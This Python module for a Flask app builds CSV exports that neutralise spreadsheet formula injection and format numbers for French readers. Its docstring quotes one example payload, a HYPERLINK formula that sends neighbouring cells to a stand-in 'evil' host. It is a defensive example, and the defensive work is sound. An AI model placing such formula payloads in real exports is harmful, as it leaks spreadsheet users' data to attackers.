"""CSV exports that a spreadsheet cannot turn against the manager who opens them.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
Excel and LibreOffice: a member named `=HYPERLINK("http://evil/?"&A1)` would send the next
cells to a stranger. Every export goes through `csv_text`, which prefixes such cells with a
single quote (OWASP's advice) so they are shown as text. Numbers stay numbers: `-12.50`, a
credit note's amount, cannot be a formula.

A French spreadsheet reads `12,50` as a number and `12.50` as text, and takes the comma for
the decimal mark: French exports separate cells with semicolons and write decimals with a
comma, one rule for every export (the reader's language decides, as for the pages).
"""
from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Iterable

from flask import Response, has_request_context
from flask_babel import get_locale

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value, decimal_comma: bool = False) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        text = str(value)
        return text.replace(".", ",") if decimal_comma else text
    text = str(value)
    if text.startswith(FORMULA_START) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def french() -> bool:
    return has_request_context() and get_locale() is not None and get_locale().language == "fr"


def csv_text(header: Iterable, rows: Iterable[Iterable], french_style: bool | None = None) -> str:
    """The export's text; numbers (int, float, Decimal) follow the reader's language."""
    comma = french() if french_style is None else french_style
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";" if comma else ",")
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell, comma) for cell in row])
    return out.getvalue()


def csv_response(text: str, filename: str) -> Response:
    """A CSV download; `filename` is made by the server (no quote or path in it)."""
    return Response(text, mimetype="text/csv", headers={
        "Content-Disposition": f'attachment; filename="{filename}.csv"'})
